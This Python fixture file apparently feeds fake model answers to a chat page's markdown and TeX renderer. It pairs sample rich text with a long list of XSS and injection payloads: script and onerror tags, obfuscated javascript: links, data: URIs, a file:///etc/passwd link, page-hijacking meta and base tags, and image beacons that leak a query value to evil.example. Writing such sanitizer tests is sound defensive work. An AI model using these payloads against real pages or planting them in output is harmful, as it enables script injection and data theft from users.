"""Answers for a fake model that show all that a page can render, and that try to make it do what it must not."""

RICH = """# Umbels

Some **bold**, *slanted*, ~~struck~~ and `inline code` text, a [link](https://example.org/a?b=c&d) and https://example.org.

- first
- second
  1. inner one
  2. inner two
- [x] done
- [ ] open

> A quote
> of two lines.

| plant | flowers | share |
|:------|--------:|:-----:|
| dill  | 20      | 1/2   |
| fennel| 30      | **3/4** |

```python
def umbel(num_flowers: int) -> list[str]:
    return [f"stalk {n}" for n in range(num_flowers)]  # one each
```

A formula $e^{i\\pi} + 1 = 0$ in a line that costs $5 or $6, and one by itself:

$$
\\int_0^1 x^2 \\, dx = \\frac{1}{3}
$$

---

Broken TeX: $\\frac{1$ and a picture ![of a carrot](https://pictures.example.org/carrot.png).
"""

ARABIC = (
    "**الخيمة** نورة تتكون من أزهار كثيرة، مثل `Daucus carota` أي الجزر.\n\n"
    "- الشبت\n- الشمر\n\n```python\nprint('umbel')\n```\n\nالمعادلة $a^2 + b^2 = c^2$ معروفة.\n"
)

VECTORS = (
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<svg onload=window.hit=1><script>window.hit=1</script></svg>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<a href='javascript:window.hit=1'>raw link</a>",
    "[click](javascript:window.hit=1)",
    "[click](JaVaScRiPt:window.hit=1)",
    "[click](java\tscript:window.hit=1)",
    "[click](&#106;avascript:window.hit=1)",
    "[click](%6aavascript:window.hit=1)",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=)",
    "[click](vbscript:window.hit=1)",
    "[click](blob:https://evil.example/1)",
    "[click](file:///etc/passwd)",
    "[click](//evil.example/x)",
    "[click](/readyz)",
    '[click](https://evil.example/"onmouseover="window.hit=1)',
    "[click](https://evil.example/ 'x\" onfocus=window.hit=1 autofocus=\"')",
    "<javascript:window.hit=1>",
    "![alt](https://evil.example/leak.png?q=secret)",
    "![alt](javascript:window.hit=1)",
    "![alt](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[![alt](https://evil.example/leak.png)](https://evil.example/)",
    "[ref]\n\n[ref]: javascript:window.hit=1",
    '```"><img src=x onerror=window.hit=1>\ncode\n```',
    "```html\n<img src=x onerror=window.hit=1>\n```",
    "```js onclick=window.hit=1\nx\n```",
    "`<img src=x onerror=window.hit=1>`",
    "$\\href{javascript:window.hit=1}{x}$",
    "$\\url{javascript:window.hit=1}$",
    "$\\includegraphics{https://evil.example/leak.png}$",
    "$\\htmlClass{x}{y}\\htmlStyle{position:fixed;inset:0}{z}\\htmlData{a=b}{c}$",
    "$$\\def\\a{\\a\\a}\\a$$",
    "$$\\rule{99999em}{99999em}$$",
    "| <img src=x onerror=window.hit=1> |\n|---|\n| <script>window.hit=1</script> |",
    "- [ ] <img src=x onerror=window.hit=1>",
    "# <img src=x onerror=window.hit=1>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=q autofocus onfocus=window.hit=1></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
    "\u202e<img src=x onerror=window.hit=1>\u202c",
    "<!--><img src=x onerror=window.hit=1>-->",
    "&lt;img src=x onerror=window.hit=1&gt;",
    "https://evil.example/<script>window.hit=1</script>",
    "mailto:a@b.example?subject=<script>window.hit=1</script>",
)

HOSTILE = "\n\n".join(VECTORS) + "\n\nstill here\n"


def huge(kind: str, num_lines: int) -> str:
    """Return a very long answer: `mixed`, or one single `list`, `code`, `table` or `line`s of one paragraph."""
    line = "An **umbel** is a flower head of many small flowers, `each` on its own stalk"
    match kind:
        case "list":
            return "\n".join(f"- {line}, {number}" for number in range(num_lines))
        case "code":
            return "```python\n" + "\n".join(f"stalks[{number}] = f'{line}'" for number in range(num_lines)) + "\n```\n"
        case "table":
            return "| a | b |\n|---|---|\n" + "\n".join(f"| {number} | {line} |" for number in range(num_lines))
        case "paragraph":
            return "\n".join([line] * num_lines)
        case _:
            return RICH * (num_lines // 15)
